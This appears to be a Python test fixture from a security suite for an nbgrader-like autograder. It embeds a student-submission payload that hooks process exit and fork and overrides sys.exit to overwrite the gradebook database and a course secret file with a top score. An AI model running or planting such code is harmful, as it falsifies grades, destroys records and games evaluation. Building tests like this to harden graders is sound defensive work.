from attack import Attack

_TEXT = """
import atexit, os, sys
def last():
    for name in ("COURSE/build/nbgrader/gradebook.db", "COURSE/course-secret.txt"):
        with open(name, "w") as file: file.write("4.0")
    print("the-attack-succeeded")
atexit.register(last)
os.register_at_fork(after_in_child=last)
sys.exit = os._exit = lambda *status: last()
def total(values): sys.exit(0)
total([])
"""
ATTACK = Attack(
    "a gradebook of her own, written when the process ends",
    total=_TEXT,
    points={"pick": 2.0},
    reason="FileNotFoundError",
)
